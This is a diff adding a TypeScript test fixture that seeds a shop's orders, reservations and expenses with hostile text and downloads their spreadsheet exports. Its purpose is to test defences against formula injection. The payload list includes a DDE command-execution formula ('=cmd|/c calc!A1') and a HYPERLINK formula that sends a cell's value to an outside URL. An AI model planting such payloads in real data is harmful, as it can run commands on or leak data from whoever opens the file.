@@ -1,0 +1,46 @@
+import { openShop } from './app.ts';
+import { aProduct, aSession } from './factories.ts';
+import { anOrder } from './orders.ts';
+import { aReservation } from './reservations.ts';
+
+/** What people type that a spreadsheet would calculate or tear apart. */
+const HOSTILE = [
+  '=1+1',
+  '=HYPERLINK("http://example.com/?"&A1;"clique")',
+  '+55 21 99999-0000',
+  '-2+3',
+  '@SUM(1;1)',
+  '＝1+1',
+  '\t=1+1',
+  ' =1+1',
+  '=cmd|/c calc!A1',
+  'D\'Ávila "Zé"; irmão & <filhos>',
+  'Saudades\neternas',
+  'Ação, Índio, não — ñ',
+];
+/** The three spreadsheets, below /api. */
+export const EXPORTS = [
+  '/orders/export',
+  '/export/reservations',
+  '/finances/export?start=2026-11-01&end=2026-11-30',
+] as const;
+
+/** A shop whose orders, reservations and expenses hold hostile texts, and its spreadsheets. */
+export async function openShopWithHostileExports() {
+  const shop = await openShop('postgres');
+  const headers = await aSession(shop.deps, 'administrador');
+  const wreath = await aProduct(shop.deps);
+  for (const text of HOSTILE) {
+    const texts = { buyerName: text, deceasedName: text, billingAddress: text, faixaTexts: [text] };
+    await anOrder(shop.deps, { ...wreath, name: text }, texts);
+    await aReservation(shop.deps, [wreath], texts);
+    const payload = { descricao: text, valor: 1234.5, categoria: text, data: '2026-11-20' };
+    const created = await shop.request({ method: 'POST', url: '/api/expenses', headers, payload });
+    if (created.status !== 201) throw new Error(`an expense was answered ${created.status}`);
+    shop.clock.advance(61_000);
+  }
+  await anOrder(shop.deps, wreath, { flags: ['refunded'] });
+  const download = async (file: string) =>
+    String((await shop.request({ method: 'GET', url: `/api${file}`, headers })).body);
+  return { shop, download };
+}
